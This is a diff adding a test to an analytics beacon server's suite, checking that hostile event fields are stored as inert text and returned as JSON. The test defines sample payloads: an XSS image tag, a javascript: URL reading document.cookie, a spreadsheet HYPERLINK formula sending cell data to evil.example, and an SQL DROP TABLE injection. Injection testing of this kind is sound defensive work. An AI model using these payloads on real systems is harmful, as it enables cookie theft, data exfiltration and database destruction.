@@ -327,3 +327,48 @@ async def test_the_address_is_masked_before_spooling_and_forwarded_for_is_ignore
     [(_, raw)] = list(read_records(data))
     assert raw.ip == "203.0.113.0"
     assert b"203.0.113.77" not in data and b"8.8.8.8" not in data
+
+
+HOSTILE = {
+    "xss": "<img src=x onerror=alert(1)>",
+    "js_url": "javascript:alert(document.cookie)",
+    "csv": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "sql": "'); DROP TABLE actions; --",
+}
+
+
+async def test_hostile_strings_are_stored_as_inert_text(
+    server: Server, client: httpx.AsyncClient
+) -> None:
+    t = now_ms() - 3000
+    events = [
+        load_action("a1", name=HOSTILE["csv"], url=HOSTILE["js_url"]),
+        {
+            "kind": "error",
+            "id": "e1",
+            "type": "js",
+            "time": t,
+            "message": HOSTILE["xss"],
+            "stack": HOSTILE["sql"],
+        },
+        {"kind": "user", "id": "u1", "type": "user_tag", "time": t, "value": HOSTILE["sql"]},
+    ]
+    r = await client.post("/api/v1/beacon", content=encode(beacon(events=events)), headers=HEADERS)
+    assert r.status_code == 202
+    assert rows(server, "SELECT action_name FROM actions") == [(HOSTILE["csv"],)]
+    assert rows(server, "SELECT message, stack FROM errors") == [(HOSTILE["xss"], HOSTILE["sql"])]
+    assert rows(server, "SELECT value FROM user_events") == [(HOSTILE["sql"],)]
+    assert rows(server, "SELECT count(*) FROM actions") == [(1,)]  # nothing was dropped
+    # The API returns them as JSON strings, and never as markup.
+    r = await client.post(
+        "/api/v1/query",
+        headers=admin(server),
+        json={
+            "app": "shop",
+            "metrics": ["errors"],
+            "dimensions": ["message"],
+            "filters": [["message", "is", HOSTILE["xss"]]],
+        },
+    )
+    assert r.headers["content-type"] == "application/json"
+    assert r.json()["rows"] == [{"message": HOSTILE["xss"], "errors": 1}]
